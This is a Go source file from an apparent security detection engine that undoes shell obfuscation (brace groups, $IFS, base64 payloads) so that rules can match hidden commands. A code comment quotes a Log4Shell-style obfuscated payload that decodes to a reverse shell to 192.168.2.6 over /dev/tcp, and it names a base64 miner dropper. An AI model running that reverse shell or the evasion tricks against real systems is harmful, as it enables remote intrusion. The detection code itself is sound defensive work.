package detect

import (
	"encoding/base64"
	"path"
	"slices"
	"strings"
	"unicode/utf8"

	"github.com/auditchain/auditchain/internal/lazydfa"
)

// Attackers keep a command free of blanks and of the words a rule looks
// for, because it travels inside a URL parameter, a JNDI string or a
// header: Log4Shell payloads run
//
//	bash -c {echo,YmFzaCAtaS…}|{base64,-d}|{bash,-i}
//
// which bash reads as `echo YmFzaCAtaS… | base64 -d | bash -i`, and whose
// payload is `bash -i >& /dev/tcp/192.168.2.6/443 0>&1`. A rule matching
// "base64 -d" or "/dev/tcp/" sees neither. shellForms returns what the
// shell itself would read — brace groups in command position expanded,
// $IFS read as the blank it is — and the text of base64 literals that the
// command decodes. The rules see these forms beside the command as written
// (a multi-valued field matches when any value does), so nothing that
// matched before stops matching. Decoding is deterministic, so what it
// yields is observed, not guessed; it is bounded (shellFormsMax literals,
// shellFormsBytes bytes) so a hostile command cannot make it costly.
const (
	shellFormsMax   = 4
	shellFormsBytes = 16 << 10
)

var (
	// a brace group of words separated by commas, as a whole word: {a,b,c}
	braceWord = lazydfa.MustCompile(`(^|[\s;|&(` + "`" + `])\{([^{}\s,]+(?:,[^{}\s,]*)+)\}`)
	// $IFS, ${IFS}, $IFS$9, ${IFS%??}: the field separator, a blank
	ifsWord = lazydfa.MustCompile(`\$\{IFS[^}]*\}|\$IFS(\$[0-9])?`)
	// a base64 literal long enough to hide a command
	b64Literal = lazydfa.MustCompile(`[A-Za-z0-9+/]{16,}={0,2}`)
	// the command decodes base64 (after the forms above)
	b64Decode = lazydfa.MustCompile(`base64\s+(-[a-zA-Z]*d|--decode)`)
)

// ShellForms returns what a shell command reads as once its obfuscation is
// undone (brace expansion, $IFS, a base64 payload decoded into a shell),
// other than cmd itself; nil when there is nothing to undo. The timeline
// finds a detached child's command line in it (timeline/link_detach.go).
func ShellForms(cmd string) []string { return shellForms(cmd) }

// shellForms returns the forms of cmd other than cmd itself, nil when
// there are none.
func shellForms(cmd string) []string { return forms(cmd, false) }

// runForms is shellForms less what a decoder writes into a file: that is
// the file's content, not a command this act runs. A rule that matches
// the full forms and not these has matched a file's content (the engine's
// contentOnly): shop-miner's `echo … | base64 -d > .wd.sh`, a watchdog
// script holding the miner's command line, was told as a miner run.
func runForms(cmd string) []string { return forms(cmd, true) }

// decodesToFile returns the file a command decodes base64 into, "" when
// it decodes none into a file.
func decodesToFile(cmd string) string {
	if !strings.Contains(cmd, "base64") || !b64Decode.MatchString(cmd) {
		return ""
	}
	for _, seg := range splitSequence(cmd) {
		if dest, ok := decodedInto(seg); ok {
			return dest
		}
	}
	return ""
}

func forms(cmd string, run bool) []string {
	var out []string
	read := cmd
	if strings.ContainsRune(read, '{') {
		read = braceWord.ReplaceAllStringFunc(read, func(m string) string {
			i := strings.IndexByte(m, '{')
			return m[:i] + strings.ReplaceAll(m[i+1:len(m)-1], ",", " ")
		})
	}
	if strings.Contains(read, "IFS") {
		read = ifsWord.ReplaceAllString(read, " ")
	}
	if read != cmd {
		out = append(out, read)
	}
	// quotes removed, parameters and printf substitutions expanded,
	// patterns matched, eval read again (obfuscation.go)
	if w, ok := readWords(read); ok && w != read {
		read = w
		out = append(out, read)
	}
	// what `echo LIT | rev | sh` and the like feed the shell (base64
	// alone is decoded below)
	if fed, ok := decodePipes(cmd); ok && !onlyBase64(cmd) {
		out = append(out, fed)
	}
	if strings.Contains(read, "base64") && b64Decode.MatchString(read) {
		n, size := 0, 0
		var written []string // decoded into a file (runForms)
		if run {
			for _, seg := range splitSequence(read) {
				if _, ok := decodedInto(seg); ok {
					written = append(written, b64Literal.FindAllString(seg, -1)...)
				}
			}
		}
		for _, lit := range b64Literal.FindAllString(read, -1) {
			if n == shellFormsMax || size > shellFormsBytes {
				break
			}
			if slices.Contains(written, lit) {
				continue
			}
			b, err := base64.StdEncoding.DecodeString(padBase64(lit))
			if err != nil || len(b) == 0 || !printable(b) {
				continue
			}
			s := strings.TrimSpace(string(b))
			out = append(out, s)
			n++
			size += len(s)
		}
	}
	return out
}

// decodedInto returns the file a command of a sequence decodes base64
// into: its output, through filters only (no shell or interpreter reads
// it on the way), redirected to a path.
func decodedInto(seg string) (string, bool) {
	parts := splitPipes(seg)
	at := -1
	for i, p := range parts {
		if b64Decode.MatchString(p) {
			at = i
		}
	}
	if at < 0 {
		return "", false
	}
	for _, p := range parts[at+1:] {
		f := strings.Fields(p)
		if len(f) == 0 || shellNames[path.Base(f[0])] || interpreterWord(path.Base(f[0])) {
			return "", false
		}
	}
	last := parts[len(parts)-1]
	to := -1
	quoteScan(last, func(i int) bool {
		if last[i] == '>' && (i == 0 || last[i-1] != '&' && (last[i-1] < '0' || last[i-1] > '9')) {
			to = i
			return false
		}
		return true
	})
	if to < 0 {
		return "", false
	}
	f := strings.Fields(strings.TrimLeft(last[to+1:], ">"))
	if len(f) == 0 || strings.HasPrefix(f[0], "&") || DeviceName(f[0]) {
		return "", false
	}
	return strings.Trim(f[0], `"'`), true
}

// interpreterWord reports whether a program name is an interpreter that
// would run what it reads (python3.11, perl, php8.2; sed and awk can).
func interpreterWord(name string) bool {
	for _, p := range []string{"python", "perl", "php", "ruby", "node", "lua", "tclsh", "awk", "gawk", "sed"} {
		if strings.HasPrefix(name, p) {
			return true
		}
	}
	return false
}

// padBase64 adds the padding a literal lost in the URL it came through.
func padBase64(s string) string {
	if m := len(s) % 4; m != 0 && !strings.HasSuffix(s, "=") {
		return s + strings.Repeat("=", 4-m)
	}
	return s
}

// printable reports whether b is text a shell could run: valid UTF-8
// without control characters other than tab and newline.
func printable(b []byte) bool {
	if !utf8.Valid(b) {
		return false
	}
	for _, r := range string(b) {
		if r < 0x20 && r != '\t' && r != '\n' && r != '\r' || r == 0x7f {
			return false
		}
	}
	return true
}
